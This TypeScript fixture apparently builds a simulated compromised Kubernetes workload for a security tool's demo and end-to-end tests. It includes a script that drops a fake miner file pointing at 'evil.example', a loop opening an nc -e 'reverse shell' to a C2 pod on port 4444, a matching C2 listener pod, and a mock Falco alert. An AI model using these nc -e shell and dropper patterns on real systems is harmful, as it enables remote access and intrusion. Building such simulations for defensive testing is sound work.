/**
 * The "attacked" workload `npm run demo` deploys and test/e2e checks: a 2-replica busybox Deployment
 * whose container drops a file, holds an outbound TCP connection to a "C2" pod and keeps a secret in
 * its shell's memory (assembled at run time, so it is in the heap but in no command line).
 */
import type * as k8s from '@kubernetes/client-node';
import { LOCAL_IMAGES } from './local-env';

export const DROPPED_FILE = '/tmp/dropped-miner.sh';
export const C2_PORT = 4444;
export const memoryMarker = (runId: string) => `holdfast-memory-marker-${runId}`;

const SHOP_SCRIPT = [
  'set -e',
  'mkdir -p /www && echo shop-ok > /www/index.html && httpd -p 8080 -h /www',
  `echo "miner --pool evil.example" > ${DROPPED_FILE} && chmod +x ${DROPPED_FILE}`,
  'echo shop started',
  // the outbound "reverse shell": a TCP connection to the C2 pod held open by the program nc hands it to
  // (retried every second until C2 listens)
  `(while true; do nc "$C2_IP" ${C2_PORT} -e sleep 100000; sleep 1; done) &`,
  'A=holdfast-memory; B=marker; SECRET="$A-$B-$RUN_ID"',
  'while true; do echo "tick ${#SECRET}" > /dev/null; sleep 2; done',
].join('\n');

/** The attacker's listener: every connection is handed to a long sleep that keeps it open. */
export function c2Pod(): k8s.V1Pod {
  return {
    metadata: { name: 'c2', labels: { role: 'c2' } },
    spec: {
      terminationGracePeriodSeconds: 1,
      containers: [
        {
          name: 'c2',
          image: LOCAL_IMAGES.busybox,
          imagePullPolicy: 'Never',
          command: ['nc', '-ll', '-p', String(C2_PORT), '-e', 'sleep', '100000'],
        },
      ],
    },
  };
}

export function shopDeployment(name: string, c2IP: string, runId: string): k8s.V1Deployment {
  return {
    metadata: { name },
    spec: {
      replicas: 2,
      selector: { matchLabels: { app: name } },
      template: {
        metadata: { labels: { app: name, tier: 'web' } },
        spec: {
          terminationGracePeriodSeconds: 1,
          containers: [
            {
              name: 'app',
              image: LOCAL_IMAGES.busybox,
              imagePullPolicy: 'Never',
              command: ['sh', '-c', SHOP_SCRIPT],
              env: [
                { name: 'C2_IP', value: c2IP },
                { name: 'RUN_ID', value: runId },
              ],
              ports: [{ containerPort: 8080 }],
            },
          ],
        },
      },
    },
  };
}

/** A Falco (Falcosidekick) event about the drop-and-execute in `pod`. */
export function falcoAlert(namespace: string, pod: string, container = 'app') {
  return {
    uuid: globalThis.crypto.randomUUID(),
    output: `Critical Drop and execute new binary in container (user=root command=${DROPPED_FILE} k8s.ns=${namespace} k8s.pod=${pod})`,
    priority: 'Critical',
    rule: 'Drop and execute new binary in container',
    time: new Date().toISOString(),
    source: 'syscall',
    tags: ['container', 'mitre_persistence'],
    hostname: 'holdfast-node',
    output_fields: {
      'container.name': container,
      'k8s.ns.name': namespace,
      'k8s.pod.name': pod,
      'proc.cmdline': DROPPED_FILE,
    },
  };
}
